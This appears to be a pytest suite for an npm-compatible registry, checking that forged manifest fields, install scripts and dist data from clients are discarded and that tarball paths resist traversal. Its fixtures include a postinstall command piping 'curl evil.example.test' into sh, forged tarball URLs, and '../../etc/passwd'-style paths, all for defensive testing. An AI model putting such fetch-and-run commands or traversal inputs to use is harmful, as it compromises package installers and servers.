"""What readers get: packuments, manifests and tarballs, made of what the registry itself knows."""

from __future__ import annotations

import gzip
from typing import Any

import pytest

from imprint.storage import packages
from tests.support.tarballs import publish_body, tarball

CORGI = "application/vnd.npm.install-v1+json"
TARBALL = "/@acme/widget/-/widget-1.0.0.tgz"

FORGED = {
    "_npmUser": {
        "name": "ceo",
        "email": "ceo@acme.example.test",
        "trustedPublisher": {"id": "github"},
    },
    "_from": "somewhere",
    "_resolved": "https://evil.example.test/x.tgz",
    "_integrity": "sha512-evil",
    "_hasShrinkwrap": True,
    "_imprint": {"trusted": True},
    "_attachments": {},
    "_rev": "9-forged",
    "maintainers": [{"name": "ceo"}],
    "time": {"1.0.0": "1999-01-01T00:00:00.000Z"},
    "approver": {"name": "ceo"},
    "signatures": [{"keyid": "x", "sig": "y"}],
    "deprecated": "use my package instead",
    "dist-tags": {"latest": "9.9.9"},
}
INSTALLED = {
    "dependencies": {"evil": "1.0.0"},
    "optionalDependencies": {"evil": "1.0.0"},
    "peerDependencies": {"evil": "1.0.0"},
    "bundleDependencies": ["evil"],
    "bin": {"widget": "evil.js"},
    "scripts": {"postinstall": "curl evil.example.test | sh"},
    "hasInstallScript": True,
    "engines": {"node": ">=99"},
    "os": ["win32"],
    "cpu": ["mips"],
    "main": "evil.js",
    "exports": "./evil.js",
}


@pytest.fixture
def published(world, maintainer):
    """Publishes and returns the version as it is served."""

    def publish(**described):
        answer = world.put(maintainer.token, **described)
        assert answer.status == 201, answer.body
        return world.packument().json["versions"]["1.0.0"]

    return publish


@pytest.mark.parametrize("field", FORGED)
def test_what_only_the_registry_knows_is_never_taken_from_a_client(published, field):
    honest = {"_npmUser": {"name": "maintainer", "email": "maintainer@acme.example.test"}}

    served = published(manifest={field: FORGED[field]})

    assert served.get(field) in (honest.get(field), False, None)


@pytest.mark.parametrize("field", INSTALLED)
def test_what_installs_act_on_is_never_taken_from_a_client(published, field):
    served = published(manifest={field: INSTALLED[field]})

    assert field not in served


@pytest.mark.parametrize(
    "field", ["dependencies", "bin", "scripts", "engines", "os", "main", "exports"]
)
def test_what_installs_act_on_comes_from_the_tarball(published, field):
    described: dict[str, Any] = {field: INSTALLED[field]}

    served = published(data=tarball(**described), manifest={field: "forged"})

    assert served[field] == INSTALLED[field]


def test_the_dist_is_the_registrys_own(published):
    data = tarball()

    served = published(
        data=data,
        manifest={
            "dist": {
                "tarball": "https://evil.example.test/x.tgz",
                "signatures": [{"keyid": "x", "sig": "y"}],
                "attestations": {"url": "https://evil.example.test"},
                "fileCount": 9999,
                "unpackedSize": 1,
                "npm-signature": "x",
            }
        },
    )["dist"]

    assert sorted(served) == [
        "fileCount",
        "imprint",
        "integrity",
        "shasum",
        "signatures",
        "tarball",
        "unpackedSize",
    ]
    assert [one["keyid"][:7] for one in served["signatures"]] == ["SHA256:"]
    assert served["tarball"] == f"https://registry.example.test{TARBALL}"
    assert served["fileCount"] == 2


def test_the_document_around_the_versions_is_the_registrys_own(world, maintainer):
    world.put(
        maintainer.token,
        time={"1.0.0": "1999-01-01T00:00:00.000Z"},
        maintainers=[{"name": "ceo"}],
        _rev="9-forged",
        users={"ceo": True},
        readme="forged",
    )

    document = world.packument().json

    assert document["time"]["1.0.0"] == "2026-11-18T11:06:40.000Z"
    assert document["maintainers"] == [
        {"name": "maintainer", "email": "maintainer@acme.example.test"}
    ]
    assert document["_rev"] != "9-forged"
    assert "users" not in document
    assert document["readme"] == ""


def test_the_readme_comes_from_the_tarball(world, maintainer):
    data = tarball(files={"package/README.md": b"# widget\n"})

    world.put(maintainer.token, data=data, readme="forged")

    assert world.packument().json["readme"] == "# widget\n"


def test_a_run_is_shown_in_the_shape_that_npm_and_pnpm_read(world, widget):
    publisher = world.trust()

    world.put(world.credential())

    assert world.packument().json["versions"]["1.0.0"]["_npmUser"] == {
        "name": "GitHub Actions",
        "email": "no-reply@trusted-publisher.invalid",
        "trustedPublisher": {"id": "github", "oidcConfigId": f"oidc:{publisher.id}"},
    }


class TestPackument:
    def test_the_short_form_has_what_installing_needs_alone(self, world, published):
        published(data=tarball(dependencies={"left": "1.x"}), manifest={"description": "a widget"})

        document = world.packument(accept=f"{CORGI}; q=1.0, application/json; q=0.8, */*").json

        assert sorted(document) == ["dist-tags", "modified", "name", "versions"]
        assert sorted(document["versions"]["1.0.0"]) == ["dependencies", "dist", "name", "version"]

    def test_the_two_forms_have_different_tags_and_vary_by_accept(self, world, published):
        published()

        full, corgi = world.packument(), world.packument(accept=CORGI)

        assert full.headers["etag"] != corgi.headers["etag"]
        assert full.headers["vary"] == corgi.headers["vary"] == "accept, accept-encoding"
        assert corgi.headers["content-type"] == CORGI

    @pytest.mark.parametrize("accept", ["*/*", CORGI])
    def test_a_reader_who_has_it_is_told_so(self, world, published, accept):
        published()
        etag = world.packument(accept=accept).headers["etag"]

        answer = world.packument(accept=accept, if_none_match=etag)

        assert (answer.status, answer.body) == (304, b"")

    def test_a_publication_is_seen_at_once(self, world, maintainer, published):
        published()
        etag = world.packument().headers["etag"]
        world.put(maintainer.token, version="1.0.1")

        answer = world.packument(if_none_match=etag)

        assert answer.status == 200
        assert answer.json["dist-tags"] == {"latest": "1.0.1"}

    def test_it_is_compressed_for_whoever_takes_that(self, world, published):
        published()

        plain, packed = world.packument(), world.packument(accept_encoding="gzip, br")

        assert packed.headers["content-encoding"] == "gzip"
        assert gzip.decompress(packed.body) == plain.body

    def test_its_head_is_sent_alone_when_asked_for(self, world, published):
        published()

        answer = world.request("HEAD", "/@acme%2fwidget")

        assert (answer.status, answer.body) == (200, b"")
        assert int(answer.headers["content-length"]) == len(world.packument().body)

    def test_before_an_edit_it_is_never_from_a_cache(self, world, published):
        published()

        answer = world.request("GET", "/@acme%2fwidget?write=true", accept=CORGI)

        assert answer.headers["cache-control"] == "no-store"
        assert "_rev" in answer.json

    def test_a_package_that_is_not_there_is_told_without_a_notice(self, world):
        answer = world.packument("nothing")

        assert (answer.status, answer.notice) == (404, "")
        assert answer.json["message"] == "there is no package `nothing` in this registry"

    def test_what_another_process_published_is_seen_within_a_second(self, world, published):
        published()
        world.packument()
        with world.database.writing() as connection:
            package = packages.find(connection, "@acme/widget")
            packages.set_tag(connection, package.id, "beta", "1.0.0")
            packages.changed(connection, package.id, now=world.clock())
        world.clock.pass_(1)

        assert world.packument().json["dist-tags"] == {"beta": "1.0.0", "latest": "1.0.0"}

    def test_many_readers_at_once_are_served_one_rendering(self, world, published):
        published()

        answers = world.together(*(world.send("GET", "/@acme%2fwidget") for _ in range(30)))

        assert {answer.status for answer in answers} == {200}
        assert len({answer.body for answer in answers}) == 1

    @pytest.mark.parametrize("is_ready", [False, True])
    @pytest.mark.parametrize(
        "headers",
        [
            {"content_length": "5", "transfer_encoding": "chunked"},
            {"transfer_encoding": "chunked", "content_length": "0"},
        ],
    )
    def test_two_lengths_are_refused_even_where_no_body_is_read(
        self, world, published, headers, is_ready
    ):
        published()
        for _ in range(2 * is_ready):
            world.packument()

        answer = world.packument(**headers)

        assert (answer.status, answer.code) == (400, "two-lengths")

    def test_an_odd_query_does_no_harm(self, world, maintainer, published):
        published()

        answer = world.request("GET", "/@acme%2fwidget?" + "a=1&" * 200, token=maintainer.token)

        assert answer.status == 200


class TestManifest:
    @pytest.mark.parametrize("selector", ["1.0.0", "latest"])
    def test_one_version_is_found_by_number_and_by_tag(self, world, published, selector):
        served = published()

        answer = world.request("GET", f"/@acme%2fwidget/{selector}")

        assert answer.json["version"] == "1.0.0"
        assert answer.json["dist"] == served["dist"]

    @pytest.mark.parametrize("selector", ["9.9.9", "beta", "__proto__", "constructor", "%2e%2e"])
    def test_what_is_no_version_or_tag_is_not_found(self, world, published, selector):
        published()

        answer = world.request("GET", f"/@acme%2fwidget/{selector}")

        assert (answer.status, answer.code) == (404, "no-version")


class TestTarball:
    def test_its_bytes_are_those_that_were_published(self, world, published):
        data = tarball()
        published(data=data)

        answer = world.request("GET", TARBALL)

        assert answer.body == data
        assert answer.headers["cache-control"] == "public, max-age=31536000, immutable"

    @pytest.mark.parametrize(
        ("asked", "first", "last"),
        [
            ("bytes=0-9", 0, 9),
            ("bytes=10-", 10, None),
            ("bytes=-5", -5, None),
            ("bytes=0-99999", 0, None),
        ],
    )
    def test_a_part_of_it_is_sent_when_asked_for(self, world, published, asked, first, last):
        data = tarball()
        published(data=data)

        answer = world.request("GET", TARBALL, range=asked)

        assert answer.status == 206
        assert answer.body == data[first : None if last is None else last + 1]
        assert int(answer.headers["content-length"]) == len(answer.body)
        assert answer.headers["content-range"].endswith(f"/{len(data)}")

    @pytest.mark.parametrize(
        "asked",
        [
            "bytes=5-2",
            "bytes=99999-",
            "bytes=-0",
            "bytes=-",
            "bytes=0-1,3-4",
            "lines=1-2",
            "bytes=a-b",
        ],
    )
    def test_a_range_that_is_none_is_ignored(self, world, published, asked):
        data = tarball()
        published(data=data)

        answer = world.request("GET", TARBALL, range=asked)

        assert (answer.status, answer.body) == (200, data)

    @pytest.mark.parametrize(
        "path",
        [
            "/@acme/widget/-/widget-9.9.9.tgz",
            "/@acme/widget/-/gadget-1.0.0.tgz",
            "/@acme/widget/-/widget-1.0.0.tar.gz",
            "/@acme/widget/-/../../etc/passwd",
            "/@acme/widget/-/%2e%2e%2fwidget-1.0.0.tgz",
            "/@acme/widget/-/widget-..%2f..%2fetc%2fpasswd.tgz",
        ],
    )
    def test_other_names_of_files_lead_nowhere(self, world, published, path):
        published()

        assert world.request("GET", path).status == 404

    def test_old_clients_that_repeat_the_scope_get_it(self, world, published):
        published()

        assert world.request("GET", "/@acme/widget/-/@acme/widget-1.0.0.tgz").status == 200

    def test_its_head_is_sent_alone_when_asked_for(self, world, published):
        data = tarball()
        published(data=data)

        answer = world.request("HEAD", TARBALL)

        assert (answer.status, answer.body) == (200, b"")
        assert int(answer.headers["content-length"]) == len(data)

    def test_a_restricted_one_is_for_its_owners_and_no_cache(self, world, maintainer):
        world.put(maintainer.token, access="restricted")

        own = world.request("GET", TARBALL, token=maintainer.token)
        other = world.request("GET", TARBALL)

        assert (own.status, own.headers["cache-control"]) == (200, "private, no-store")
        assert other.status == 404


@pytest.mark.parametrize("route", ["advisories/bulk", "audits", "audits/quick"])
@pytest.mark.parametrize("body", [b'{"left":["1.0.0"]}', b"[]", b"{", b"x" * 1_000_000])
def test_a_registry_without_advisories_says_that_it_has_none(world, route, body):
    answer = world.request(
        "POST", f"/-/npm/v1/security/{route}", body=gzip.compress(body), content_encoding="gzip"
    )

    assert (answer.status, answer.code) == (404, "no-advisories")
    # npm shows a notice at every install, whatever the install asked for.
    assert "npm-notice" not in answer.headers


def test_an_advisory_request_that_never_ends_is_refused(world):
    answer = world.request("POST", "/-/npm/v1/security/advisories/bulk", body=b"x" * 5_000_000)

    assert (answer.status, answer.code) == (413, "body-too-large")


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/-/ping", 200),
        ("/-/npm/v1/keys", 200),
        ("/-/v1/search?text=x", 404),
        ("/", 302),
        ("/-/all", 404),
    ],
)
def test_small_routes_answer_as_clients_expect(world, path, status):
    assert world.request("GET", path).status == status


def test_publishing_the_same_body_gives_the_same_bytes_whoever_asks(world, maintainer):
    world.put(maintainer.token, body=publish_body())

    one, other = world.packument(), world.packument(user_agent="another")

    assert one.body == other.body
